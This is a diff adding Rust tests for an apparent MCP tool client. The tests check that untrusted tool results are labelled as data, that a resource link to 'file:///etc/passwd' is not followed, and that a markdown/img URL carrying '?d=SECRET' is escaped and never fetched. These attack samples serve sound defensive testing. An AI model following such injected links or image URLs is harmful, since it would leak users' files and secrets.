@@ -2,9 +2,10 @@
 
 use serde_json::{Value, json};
 
+use crate::console_person::Person;
 use crate::given::{given, tool};
 use crate::scripted::{configure, last_session, results};
-use crate::serve_client::{Serving, tool_call};
+use crate::serve_client::{Serving, tool_call, until};
 use crate::switchboard::Switchboard;
 
 /// What a model is told of a call of `web/get` that gives this, with these notices.
@@ -44,6 +45,101 @@ fn rs_01_a_result_with_orders_is_labelled_as_data() {
     check(&told(&text(orders), &json!({})), orders);
     let plain = told(&text("It is 21 degrees."), &json!({}));
     assert_eq!(plain, "It is 21 degrees.");
+}
+
+#[test]
+fn rs_01_a_model_is_told_whose_words_a_result_is_unless_the_server_is_trusted() {
+    for (trusted, expected) in [(false, 0), (true, 4)] {
+        let switchboard = Switchboard::new();
+        let offers = json!({
+            "tools": [tool("get", "Gets a page.", json!({}))],
+            "results": {"get": text("It is 21 degrees.")},
+        });
+        let mut entry = given(&switchboard, "web", &offers);
+        entry["autoApprove"] = json!(["get"]);
+        entry["trusted"] = json!(trusted);
+        let config = json!({"mcpServers": {"web": entry}, "settings": {"autoApprove": true}});
+        let label = "[Data from `web/get`:]\n\nIt is 21 degrees.";
+        let turns = json!([
+            {"calls": [{"name": "web__get", "arguments": {}}]},
+            {"expect": [label], "text": "Done."},
+        ]);
+        configure(&switchboard, &config, &turns);
+        let ran = switchboard.run(&["run", "Get"]);
+        assert_eq!(ran.code == 0, expected == 0, "{trusted}: {ran:?}");
+    }
+}
+
+/// A home in which `web` answers with this, and `notes` has a resource.
+fn linking(result: &Value, turns: &Value) -> Switchboard {
+    let switchboard = Switchboard::new();
+    let offers = json!({
+        "tools": [tool("get", "Gets a page.", json!({}))], "results": {"get": result},
+    });
+    let mut web = given(&switchboard, "web", &offers);
+    web["autoApprove"] = json!(["get"]);
+    let resources = json!({"resources": [{"uri": "notes://one", "name": "one"}]});
+    let notes = given(&switchboard, "notes", &resources);
+    let config = json!({
+        "mcpServers": {"web": web, "notes": notes}, "settings": {"autoApprove": true},
+    });
+    configure(&switchboard, &config, turns);
+    let rule = json!({"effect": "ask", "target": "*", "kind": "resource"});
+    switchboard.write_policy("user", &json!({ "rules": [rule] }));
+    switchboard
+}
+
+#[test]
+fn rs_05_a_link_in_a_result_is_followed_by_nobody_and_reading_it_is_a_call_of_its_own() {
+    let link = |uri: &str| json!({"type": "resource_link", "uri": uri, "name": "more"});
+    let result = json!({"content": [link("file:///etc/passwd"), link("notes://one")]});
+    let read = |server: &str, uri: &str| {
+        let arguments = json!({"server_name": server, "uri": uri});
+        json!({"calls": [{"name": "access_mcp_resource", "arguments": arguments}]})
+    };
+    let turns = json!([
+        {"calls": [{"name": "web__get", "arguments": {}}]},
+        read("web", "file:///etc/passwd"),
+        read("web", "notes://one"),
+        read("notes", "notes://one"),
+        {"text": "Done."},
+    ]);
+    let switchboard = linking(&result, &turns);
+    switchboard.run(&["run", "Get"]);
+    assert_eq!(
+        switchboard.recorded(),
+        [
+            "tool web/get: ok",
+            "resource web/file:///etc/passwd: not_sent (not_listed)",
+            "resource web/notes://one: not_sent (not_listed)",
+            "resource notes/notes://one: denied (unanswered)",
+        ]
+    );
+    let told = results(&switchboard, &last_session(&switchboard));
+    assert!(told[0].contains("[resource file:///etc/passwd: more]"), "{told:?}");
+    assert!(!told.concat().contains("root:"), "{told:?}");
+}
+
+#[test]
+fn rs_02_a_picture_in_a_result_is_text_and_nothing_is_fetched() {
+    let sink = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    sink.set_nonblocking(true).unwrap();
+    let address = format!("http://{}/?d=SECRET", sink.local_addr().unwrap());
+    let picture = format!("![x]({address}) <img src=\"{address}\">");
+    let switchboard = linking(&text(&picture), &json!([{"text": "Done."}]));
+    let printed = switchboard.run(&["call", "web", "get"]).expect(0).stdout;
+    assert!(printed.contains(&picture), "{printed}");
+    let person = Person::at(&switchboard, &[]);
+    until(|| person.ask("servers/web")["state"] == "ready");
+    let called = person.call("web", "get", &json!({}));
+    let page = person.get(&format!("/calls/{}", called["id"].as_str().unwrap())).body;
+    let start = "&lt;img src=";
+    assert!(page.contains(start) && !page.contains("<img src=\"http"), "{page}");
+    let policy = person.get("/").header("content-security-policy").unwrap().to_owned();
+    assert!(policy.contains("default-src 'none'"), "{policy}");
+    assert!(!policy.contains("img-src http") && !policy.contains("img-src *"), "{policy}");
+    let fetched = sink.accept();
+    assert_eq!(fetched.unwrap_err().kind(), std::io::ErrorKind::WouldBlock, "it was fetched");
 }
 
 #[test]
